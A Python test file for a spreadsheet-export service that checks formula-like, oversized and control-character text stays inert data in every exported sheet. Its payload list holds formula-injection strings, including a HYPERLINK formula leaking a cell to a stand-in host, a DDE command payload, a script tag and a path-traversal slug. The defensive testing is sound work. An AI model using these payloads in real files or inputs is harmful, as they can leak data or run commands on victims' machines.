"""Hostile text from the app and the admin reaches every sheet as data: no formula, well-formed XML, every row."""

from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import shutil
import subprocess
import zipfile
from xml.etree import ElementTree

import pytest
from openpyxl import Workbook

from exports.config import cell_safety
from exports.config.versions import save_column_config
from exports.container import services
from exports.demo.configs import hlf_config, nhf_config
from exports.domain import ExportSuccess
from exports.models import Organisation
from exports.source.activities import ActivityRecord
from exports.workbook import styled_cells
from tests import factories
from tests.records import activity_record

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "#N/A",
    "#REF!",
    "a\x00b\x01c\x08d\x0be\x1ff",
    "x\ufffey\uffffz",
    "lone \ud800 surrogate",
    "\udfff",
    "<script>alert(1)</script> & ]]> \"'",
    "x" * 40_000,
    "\U0001f600" * 20_000,
    "=" + "A" * 40_000,
    "",
    " ",
]
"""Text an attacker or a careless administrator can put in any field."""
_S = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def _short(text: str, index: int) -> str:
    """A hostile admin value that still passes the document's bounds (unique, not blank, not huge)."""
    return f"{text[:120]}{index}"


def hostile_document(document: dict) -> dict:
    """The document with hostile text in every field the admin writes to a cell.

    Characters no cell holds are refused when a document is saved, so the admin's text is the formula-like kind.
    """
    document = copy.deepcopy(document)
    hostile = iter([text for text in HOSTILE if not cell_safety.REFUSED_CHARACTERS.search(text)] * 20)
    index = iter(range(10_000))
    document["template"]["name"] = _short(next(hostile), next(index))
    document["template"]["boolean_labels"] = {"true": "=1+1", "false": "@A1"}
    for spec in document["activity_types"].values():
        spec["label"] = _short(next(hostile), next(index))
    for values in document.get("value_lists", {}).values():
        for key in values:
            values[key] = _short(next(hostile), next(index))
    for column in document["columns"]:
        column["heading"] = _short(next(hostile), next(index))
    for rule in document["counting_rules"] + document.get("validations", []):
        rule["reason"] = _short(next(hostile), next(index))
    return document


def hostile_records(known_type: str) -> list[ActivityRecord]:
    """Two rows for each hostile value: one that counts (text everywhere else), one with a hostile type."""
    records = []
    start = dt.datetime(2025, 3, 1, 9, tzinfo=dt.UTC)
    for number, text in enumerate(HOSTILE):
        common = {
            "description": text,
            "local_branch_name": text,
            "local_branch_county_code": text,
            "local_branch_municipality_code": text,
        }
        records.append(
            activity_record(
                activity_type=known_type,
                started_at=start + dt.timedelta(hours=2 * number),
                municipality_code=text,
                peer_mentor_name=text,
                **common,
            )
        )
        records.append(
            activity_record(
                activity_type=text,
                started_at=start + dt.timedelta(hours=2 * number + 1),
                country_code=text,
                peer_mentor_id=None,
                peer_mentor_name=None,
                **common,
            )
        )
    return records


class ListSource:
    """An activity source over a fixed list of records."""

    def __init__(self, records: list[ActivityRecord]) -> None:
        self.records = records

    def count(self, organisation_id, period):
        return len(self.records)

    def stream(self, organisation_id, period, chunk_size):
        for offset in range(0, len(self.records), chunk_size):
            yield self.records[offset : offset + chunk_size]


def _sheet_xml(files: dict[str, bytes]) -> dict[str, ElementTree.Element]:
    """Every worksheet of the workbook, parsed as XML (raises on a file that is not well-formed)."""
    workbook = next(data for name, data in files.items() if name.endswith(".xlsx"))
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return {
            name: ElementTree.fromstring(archive.read(name))
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
        }


@pytest.mark.parametrize(("make_config", "known_type"), [(nhf_config, "hjemmebesok"), (hlf_config, "besok")])
def test_hostile_text_in_every_column_and_every_summary_field_stays_data(run_export, make_config, known_type):
    org = factories.organisation("hostile", name=HOSTILE[0] + "\x01\ufffe", org_number="=2+3")
    save_column_config(organisation=org, document=hostile_document(make_config()), active=True)
    records = hostile_records(known_type)
    with services().override(activity_source=ListSource(records)):
        bundle = run_export(org).succeeded_bundle

    sheets = _sheet_xml(bundle.files)
    assert len(sheets) == 5  # Sammendrag, Aktiviteter, Avvik, Likepersoner, Endringer
    for root in sheets.values():
        assert root.findall(f".//{_S}f") == []
        for element in root.iter(f"{_S}c"):
            assert element.get("t") in (None, "n", "b", "inlineStr", "d")
    workbook = bundle.workbook
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert cell.quotePrefix or not cell_safety.is_formula_like(cell.value)
                    assert len(cell.value) <= cell_safety.MAX_TEXT_LENGTH
                    assert not cell_safety.REFUSED_CHARACTERS.search(cell.value)
    activities = list(workbook["Aktiviteter"].iter_rows(values_only=True))
    assert len(activities) == 1 + len(records)
    deviations = list(workbook["Avvik"].iter_rows(values_only=True))
    notes = [value for row in deviations for value in row if isinstance(value, str)]
    assert any("kuttet til 32\xa0767 tegn" in note for note in notes)
    assert len(deviations) == 1 + bundle.manifest["rows"]["deviations"]
    assert len(deviations) > len(HOSTILE)
    mentors = list(workbook["Likepersoner"].iter_rows(values_only=True))
    assert len(mentors) == 1 + len(HOSTILE)  # one peer mentor per hostile name, each name kept as text
    links = [
        cell.hyperlink.target
        for row in workbook["Avvik"].iter_rows(min_row=2)
        for cell in row
        if cell.hyperlink is not None
    ]
    if make_config is nhf_config:  # NHF's configuration names the app's address; HLF's does not
        assert len(links) == len(deviations) - 1 and all(link.startswith("https://app.nhf.example/") for link in links)
    else:
        assert links == []
    summary = [value for row in workbook["Sammendrag"].iter_rows(values_only=True) for value in row]
    assert HOSTILE[0] in summary and "=2+3" in summary
    assert any(isinstance(value, str) and value.startswith("\t=1+1") for value in summary)
    assert any(isinstance(value, str) and value.startswith("-1+1") for value in summary)


def test_formula_like_text_is_text_with_a_quote_prefix():
    sheet = Workbook(write_only=True).create_sheet()
    for text in ("=1+1", "+1", "-1", "@A1", "#N/A", "\uff1d1"):
        written = styled_cells.cell(sheet, text)
        assert written.data_type == "s" and written.value == text and written.quotePrefix
    assert styled_cells.cell(sheet, "plain text") == "plain text"
    assert styled_cells.cell(sheet, 42) == 42


@pytest.mark.parametrize("value", [[1], {"a": 1}, {1}, len, object(), float("nan"), float("inf"), b"bytes"])
def test_a_value_no_cell_can_hold_becomes_a_problem_not_an_exception(value):
    cleaned = cell_safety.clean(value)
    assert cleaned.value is None and cleaned.problem


def test_long_text_is_cut_to_what_excel_keeps_counting_utf16_units():
    cleaned = cell_safety.clean("\U0001f600" * 20_000)
    assert cleaned.problem
    assert len(cleaned.value.encode("utf-16-le")) // 2 <= cell_safety.MAX_TEXT_LENGTH
    assert cell_safety.clean("x" * cell_safety.MAX_TEXT_LENGTH) == cell_safety.CellValue(
        "x" * cell_safety.MAX_TEXT_LENGTH
    )


def test_huge_numbers_and_old_dates_are_kept_as_text():
    assert cell_safety.clean(10**30).value == str(10**30)
    old = cell_safety.clean(dt.date(1, 1, 1))
    assert old.value == "0001-01-01" and old.problem
    aware = cell_safety.clean(dt.datetime(2025, 6, 1, 10, tzinfo=dt.UTC)).value
    assert aware == dt.datetime(2025, 6, 1, 12)


def test_a_hostile_slug_cannot_steer_where_files_go(run_export, tmp_path):
    org = factories.organisation("legacy")  # the model refuses such a slug now: planted as data from before
    Organisation.objects.filter(pk=org.pk).update(slug="../../../../tmp/evil slug")
    org.refresh_from_db()
    factories.activity(org, peer_mentor=factories.mentor(org))
    finished = run_export(org)
    assert isinstance(finished.result, ExportSuccess), finished.result
    assert ".." not in finished.result.file_key and finished.result.file_key.startswith("tmpevil-slug/")


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_reads_every_row_and_evaluates_nothing(run_export, tmp_path):
    org = factories.organisation("hostile", name=HOSTILE[0])
    save_column_config(organisation=org, document=hostile_document(nhf_config()), active=True)
    records = hostile_records("hjemmebesok")
    with services().override(activity_source=ListSource(records)):
        bundle = run_export(org).succeeded_bundle
    data = next(data for name, data in bundle.files.items() if name.endswith(".xlsx"))
    workbook = tmp_path / "hostile.xlsx"
    workbook.write_bytes(data)
    subprocess.run(
        [
            "soffice",
            "--headless",
            "--norestore",
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
            "--outdir",
            str(tmp_path),
            str(workbook),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    for sheet in ("Aktiviteter", "Sammendrag", "Avvik"):
        with (tmp_path / f"hostile-{sheet}.csv").open(encoding="utf-8", newline="") as handle:
            rows = [row for row in csv.reader(handle) if any(row)]
        expected = [
            row for row in bundle.workbook[sheet].iter_rows(values_only=True) if any(value is not None for value in row)
        ]
        assert len(rows) == len(expected), sheet
        values = {value for row in rows for value in row}
        assert "Klikk" not in values and "#NAME?" not in values and "Err:508" not in values
    assert any(HOSTILE[0] in value for value in values)
